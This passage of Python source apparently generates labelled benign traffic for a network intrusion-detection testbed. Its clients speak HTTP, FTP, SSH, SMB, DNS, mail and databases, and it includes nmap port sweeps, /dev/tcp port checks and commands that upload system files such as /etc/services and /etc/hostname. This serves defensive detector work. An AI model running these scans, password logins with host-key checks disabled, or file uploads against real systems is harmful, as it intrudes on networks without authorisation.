              ["-H", f"If-Modified-Since: {stamp}"], ["--http1.0"], ["--compressed"],
              ["-X", "PUT", "--data-binary", "@/etc/hostname"], ["-X", "DELETE"],
              ["-H", "Content-Type: application/json", "-d", '{"q": "status"}'])
    missing = ("/favicon.ico", "/apple-touch-icon.png", "/robots.txt", "/old-news.html",
               "/.well-known/security.txt")
    commands = []
    for _ in range(max(3, int(b.seconds / 1.5))):
        scheme = b.rng.choice(("http", "https"))
        path = b.rng.choice(missing) if b.rng.random() < 0.25 else b.rng.choice(b.pages)
        commands += [_curl(b, f"{b.url(scheme)}{path}", *b.rng.choice(habits)),
                     _think(b, 0.3, 2.5)]
    return commands


def wget_mirror(b: Budget) -> Commands:
    scheme = b.rng.choice(("http", "https"))
    return [["wget", "-q", "-r", "-l", str(b.rng.choice((1, 2))), "-np", "--delete-after",
             "-e", "robots=off", "--no-check-certificate", "--quota=20m",
             f"--wait={b.rng.choice((0, 0.2, 0.5))}", "-U", b.rng.choice(USER_AGENTS),
             f"{b.url(scheme)}{b.rng.choice(b.pages)}"]]


def redis_polling(b: Budget) -> Commands:
    cli = ["redis-cli", "-h", b.at("redis"), "-a", LOGIN_PASSWORD, "--no-auth-warning"]
    commands = []
    for i in range(max(3, int(b.seconds))):
        commands += [[*cli, *b.rng.choice((["SET", f"job:{i}", "done"], ["GET", "job:1"],
                                           ["INCR", "hits"], ["INFO", "memory"],
                                           ["LPUSH", "queue", f"task{i}"]))],
                     _think(b, 0.2, 1.5)]
    return commands


def snmp_polling(b: Budget) -> Commands:
    commands = []
    for _ in range(max(2, int(b.seconds / 3))):
        commands += [b.rng.choice((
            ["snmpget", "-v2c", "-c", "public", "-t", "2", "-r", "0", b.at("snmp"),
             "SNMPv2-MIB::sysUpTime.0", "SNMPv2-MIB::sysDescr.0"],
            ["snmpwalk", "-v2c", "-c", "public", "-t", "2", "-r", "0", b.at("snmp"), "system"]
        )), _think(b, 1.0, 3.0)]
    return commands


def ntp_queries(b: Budget) -> Commands:
    return [cmd for _ in range(max(1, int(b.seconds / 8))) for cmd in (
        ["chronyd", "-Q", "-t", "6", "-f", "/dev/null", f"server {b.at('ntp')} iburst"],
        _think(b, 1.0, 4.0))]


def ftp_modes(b: Budget) -> Commands:
    login = f"{LOGIN_USER}:{LOGIN_PASSWORD}"
    commands = []
    for i in range(max(2, int(b.seconds / 3))):
        mode = ["--ftp-port", "-"] if b.rng.random() < 0.4 else ["--ftp-pasv"]
        if b.rng.random() < 0.3:
            commands.append(["curl", "-s", "--max-time", "10", *mode, "-T", "/etc/services",
                             f"ftp://{login}@{b.at('ftp')}/upload{i}.txt"])
        else:
            commands.append(["curl", "-s", "--max-time", "10", *mode, "-o", "/dev/null",
                             f"ftp://{login}@{b.at('ftp')}/report{b.rng.randrange(5)}.txt"])
        commands.append(_think(b, 0.3, 2))
    return commands


def ssh_interactive(b: Budget) -> Commands:
    """A long-lived SSH session with typed commands, pauses and keep-alives."""
    typed = "; ".join(f"{cmd}; sleep {b.rng.uniform(0.5, 3):.1f}" for cmd in b.rng.sample(
        ("ls -la", "df -h", "uptime", "ps aux | head", "cat /etc/hostname", "free -m", "w"), 4))
    return [["sshpass", "-p", LOGIN_PASSWORD, "ssh", "-o", "StrictHostKeyChecking=no",
             "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=8",
             "-o", f"ServerAliveInterval={b.rng.choice((1, 2, 5))}", "-tt",
             f"{LOGIN_USER}@{b.at('ssh')}", typed]]


def dns_resolver_mix(b: Budget) -> Commands:
    names = [f"{host}.testbed.lan" for host in ("www", "ftp", "mail", "ns", "intranet", "vpn")]
    commands = []
    for _ in range(max(4, int(b.seconds))):
        tcp = ["+tcp"] if b.rng.random() < 0.15 else []
        commands += [["dig", "+time=2", "+tries=1", *tcp, f"@{b.at('dns')}",
                      b.rng.choice(names), b.rng.choice(("A", "AAAA", "MX", "TXT", "SOA", "NS"))],
                     _think(b, 0.2, 2.5)]
    return commands


def public_lookups(b: Budget) -> Commands:
    """A workstation resolving the public internet's names (``public_names``): bursts of a
    page's or an updater's names, A and AAAA both, with dig, host or nslookup and their
    different EDNS, cookie and flag habits; SRV, MX and TXT lookups; names that do not exist."""
    questions = public_names.questions()
    commands: Commands = []
    for _ in range(max(3, int(b.seconds))):
        for name, kind in b.rng.sample(questions, b.rng.randint(1, 4)):
            kinds = ("A", "AAAA") if kind in ("A", "AAAA") and b.rng.random() < 0.6 else (kind,)
            commands += [_lookup(b, name, k) for k in kinds]
        commands.append(_think(b, 0.2, 2.0))
    return commands


def _lookup(b: Budget, name: str, kind: str) -> list[str]:
    server = b.at("dns")
    client = b.rng.choice(("dig", "dig", "host", "nslookup"))
    if client == "host":
        return ["host", "-W", "2", "-t", kind, name, server]
    if client == "nslookup":
        return ["nslookup", "-timeout=2", f"-type={kind}", name, server]
    habit = b.rng.choice(([], ["+dnssec"], ["+nocookie"], ["+noedns"], ["+noadflag"],
                          ["+tcp"] if b.rng.random() < 0.2 else []))
    return ["dig", "+time=2", "+tries=1", *habit, f"@{server}", name, kind]


def scp_sftp(b: Budget) -> Commands:
    """File copies over SSH: scp up and down, an sftp batch."""
    target = f"{LOGIN_USER}@{b.at('ssh')}"
    options = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
               "-o", "ConnectTimeout=8"]
    batch = "sftp-batch.txt"  # in the run's log directory, where commands run
    commands = []
    for _ in range(max(1, int(b.seconds / 5))):
        commands.append(b.rng.choice((
            ["sshpass", "-p", LOGIN_PASSWORD, "scp", *options, "/etc/services",
             f"{target}:/dev/null"],
            ["sshpass", "-p", LOGIN_PASSWORD, "scp", *options, f"{target}:/etc/os-release",
             "/dev/null"],
            ["sh", "-c", f"printf 'ls /tmp\\nget /etc/hostname /dev/null\\nbye\\n' > {batch}; "
             f"sshpass -p {LOGIN_PASSWORD} sftp {' '.join(options)} -b {batch} {target}"])))
        commands.append(_think(b, 0.5, 3.0))
    return commands


PYTHON_CLIENT = """
import sys, time, urllib.request, random
rng = random.Random(int(sys.argv[2]))
pages = sys.argv[3:]
for _ in range(len(pages)):
    try:
        urllib.request.urlopen(sys.argv[1] + rng.choice(pages), timeout=5).read()
    except OSError:
        pass
    time.sleep(rng.uniform(0.2, 2.0))
"""


def python_client(b: Budget) -> Commands:
    """A script's requests: Python's urllib, its own headers and connection habits."""
    pages = [b.rng.choice(b.pages) for _ in range(max(3, int(b.seconds / 1.2)))]
    return [["python3", "-c", PYTHON_CLIENT, b.url(), str(b.rng.randrange(1 << 30)), *pages]]


CHROMIUM = ("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--ignore-certificate-errors", "--virtual-time-budget=3000", "--timeout=8000")


def chromium_browsing(b: Budget) -> Commands:
    """A real browser loading pages with every asset: HTTP/1.1, or HTTP/2 over TLS."""
    profile = f"chromium-profile-{b.rng.randrange(1 << 30)}"  # in the log directory
    commands = []
    for _ in range(max(1, int(b.seconds / 4))):
        scheme = b.rng.choice(("http", "https"))
        commands += [[*CHROMIUM, f"--user-data-dir={profile}", "--dump-dom",
                      f"{b.url(scheme)}{b.rng.choice(b.pages)}"], _think(b, 0.5, 2.0)]
    return [*commands, ["rm", "-rf", profile]]


def mail_traffic(b: Budget) -> Commands:
    """Mail sent with swaks or curl, then read over IMAP or POP3 with curl."""
    login = f"{LOGIN_USER}:{LOGIN_PASSWORD}"
    commands = []
    for i in range(max(2, int(b.seconds / 3))):
        subject = f"report {i} {b.rng.choice(('weekly', 'backup', 'invoice', 'ticket'))}"
        commands.append(b.rng.choice((
            ["swaks", "--server", b.at("smtp"), "--to", f"{LOGIN_USER}@testbed.lan",
             "--from", f"ops{i}@testbed.lan", "--header", f"Subject: {subject}",
             "--body", "see attached numbers\n" * b.rng.randint(1, 40), "--silent", "2"],
            ["curl", "-s", "--max-time", "8", f"smtp://{b.at('smtp')}", "--mail-from",
             f"ops{i}@testbed.lan", "--mail-rcpt", f"{LOGIN_USER}@testbed.lan",
             "-T", "/etc/os-release"])))
        commands.append(b.rng.choice((
            ["curl", "-s", "--max-time", "8", "-o", "/dev/null",
             f"imap://{login}@{b.at('imap')}/INBOX", "-X", "FETCH 1:* (FLAGS)"],
            ["curl", "-s", "--max-time", "8", "-o", "/dev/null",
             f"pop3://{login}@{b.at('imap')}/1"])))
        commands.append(_think(b, 0.5, 3.0))
    return commands


def smb_copies(b: Budget) -> Commands:
    share = [f"//{b.at('smb')}/files", "-U", f"{LOGIN_USER}%{LOGIN_PASSWORD}"]
    commands = []
    for i in range(max(1, int(b.seconds / 4))):
        work = b.rng.choice(("ls", f"get report{b.rng.randrange(5)}.txt /dev/null",
                             f"put /etc/services smb-upload{i}.txt", "ls; dir"))
        commands += [["smbclient", *share, "-m", b.rng.choice(("SMB2", "SMB3", "NT1")),
                      "-c", work], _think(b, 0.5, 3.0)]
    return commands


def database_queries(b: Budget) -> Commands:
    queries = ("SELECT now()", "SELECT count(*) FROM pg_stat_activity",
               "SELECT datname FROM pg_database", "SELECT version()",
               "SELECT relname FROM pg_class LIMIT 20")
    return [cmd for _ in range(max(2, int(b.seconds / 2))) for cmd in (
        ["psql", f"postgresql://postgres:{LOGIN_PASSWORD}@{b.at('database')}/postgres",
         "-Atc", b.rng.choice(queries)], _think(b, 0.3, 2.0))]


def _benign(name: str, tools: tuple[str, ...], build, text: str) -> Scenario:
    return Scenario(name, BENIGN, "client", tools, build, text)


WIDE_BENIGN: tuple[Scenario, ...] = (
    *(s for s in SCENARIOS.values() if s.label == BENIGN),
    _benign("browse_assets", ("curl",), browse_with_assets, "pages with their assets, h1/h2"),
    _benign("wget_mirror", ("wget",), wget_mirror, "recursive wget of part of the site"),
    _benign("http_methods", ("curl",), http_methods,
            "HEAD, OPTIONS, range and conditional requests, refused PUT/DELETE, stray 404s"),
    _benign("redis_polling", ("redis-cli",), redis_polling, "a job queue's Redis commands"),
    _benign("snmp_polling", ("snmpget", "snmpwalk"), snmp_polling, "monitoring-style SNMP polls"),
    _benign("ntp_queries", ("chronyd",), ntp_queries, "NTP time queries"),
    _benign("ftp_modes", ("curl",), ftp_modes, "FTP transfers, active and passive"),
    _benign("ssh_interactive", ("ssh", "sshpass"), ssh_interactive,
            "a long interactive SSH session with keep-alives"),
    _benign("dns_resolver_mix", ("dig",), dns_resolver_mix, "many names and types, UDP and TCP"),
    _benign("public_lookups", ("dig", "host", "nslookup"), public_lookups,
            "a workstation resolving public names: CDNs, SRV, MX, TXT, missing names"),
    _benign("scp_sftp", ("scp", "sftp", "sshpass"), scp_sftp, "file copies with scp and sftp"),
    _benign("python_client", ("python3",), python_client, "a Python urllib script's requests"),
    _benign("mail_traffic", ("swaks", "curl"), mail_traffic, "mail sent, then read over IMAP/POP3"),
    _benign("database_queries", ("psql",), database_queries, "PostgreSQL queries"),
    _benign("smb_copies", ("smbclient",), smb_copies, "SMB listings and copies, SMB1 to SMB3"),
    _benign("chromium_browsing", ("chromium",), chromium_browsing,
            "headless Chromium loading pages with their assets, h1 and h2"),
    _benign("kerberos_logins", ("kinit", "kvno"), kerberos_logins,
            "kinit logins to the realm (a mistyped password now and then), kvno service tickets"),
    _benign("sip_calls", ("sipp",), sip_calls, "SIPp phone calls: INVITE, answer, ACK, BYE"),
    _benign("unanswered_lookups", ("python3", "dig", "nslookup", "nmblookup"),
            unanswered_lookups, "a gone resolver's unanswered, retried queries and NetBIOS "
            "name broadcasts nobody answers"),
)


def _tcp_services(targets: dict[str, str]) -> list[tuple[str, str, int]]:
    """(service, address, port) for every TCP port a run's servers listen on, once each."""
    ports = {(p.service, int(port.split("/")[1])) for p in PROGRAMS.values()
             for port in p.ports if port.startswith("tcp/")}
    return sorted({(service, targets[service], port) for service, port in ports
                   if service in targets})


def service_checks(b: Budget) -> Commands:
    """A Nagios-style monitor: every round, each server's TCP ports connected to and closed.

    The checks that look most like a scan to a model trained elsewhere (one host
    touching many ports of every server, on a fixed beat), so this is a site's
    own normal traffic, not the training world's: runs name it, the draw does not.
    """
    interval = b.rng.choice((20.0, 30.0, 60.0))
    commands: Commands = []
    for _ in range(max(1, int(b.seconds / interval))):
        for service, address, port in _tcp_services(dict(b.targets)):
            if service == "http":
                commands.append(_curl(b, f"{'https' if port == 443 else 'http'}://{address}/"))
            else:  # check_tcp: the handshake, then close
                commands.append(["timeout", "3", "bash", "-c",
                                 f"exec 3<>/dev/tcp/{address}/{port}"])
        commands.append(["sleep", f"{interval:.0f}"])
    return commands


INVENTORY_PORTS = "21,22,23,25,53,80,110,143,443,445,3306,3389,5432,6379,8080"


def inventory_sweep(b: Budget) -> Commands:
    """An authorised asset inventory: the same fixed port list connect-scanned on every
    server, every few minutes.

    To any model it is a port scan, and a scan it is; what makes it the site's normal
    traffic is that it comes from the same host, with the same ports, on a beat. This
    is what a site suppresses by hand in Suricata or Zeek, and what the feedback round
    is for: marked, it must stop, while an attacker's scans from other hosts stay alerted.
    """
    interval = b.rng.choice((120.0, 180.0))
    servers = sorted(set(b.targets.values()))
    commands: Commands = []
    for _ in range(max(1, int(b.seconds / interval))):
        commands.append(["nmap", "-n", "-Pn", "-sT", "--max-retries", "1", "-T4",
                         "-p", INVENTORY_PORTS, *servers])
        commands.append(["sleep", f"{interval:.0f}"])
    return commands


def ssh_checks(b: Budget) -> Commands:
    """A check_by_ssh-style monitor: a successful SSH login running one command, every half
    minute. Many short SSH sessions from one host look like a brute force to a model that
    has only seen logins fail that often."""
    command = b.rng.choice(("uptime", "df -h /", "cat /proc/loadavg"))
    login = ["sshpass", "-p", LOGIN_PASSWORD, "ssh", "-o", "StrictHostKeyChecking=no",
             "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
             f"{LOGIN_USER}@{b.at('ssh')}", command]
    return [cmd for _ in range(max(1, int(b.seconds / 30))) for cmd in (login, ["sleep", "30"])]


SITE_BENIGN: tuple[Scenario, ...] = (
    _benign("service_checks", ("curl", "bash"), service_checks,
            "a monitoring poller checking every server's TCP ports on a fixed beat "
            "(a site's own traffic: only when named)"),
    _benign("inventory_sweep", ("nmap",), inventory_sweep,
            "an authorised asset inventory connect-scanning a fixed port list on every "
            "server every few minutes (a site's own traffic: only when named)"),
    _benign("ssh_checks", ("ssh", "sshpass"), ssh_checks,
            "a check_by_ssh-style monitor logging in to run one command every 30 s "
            "(a site's own traffic: only when named)"),
)
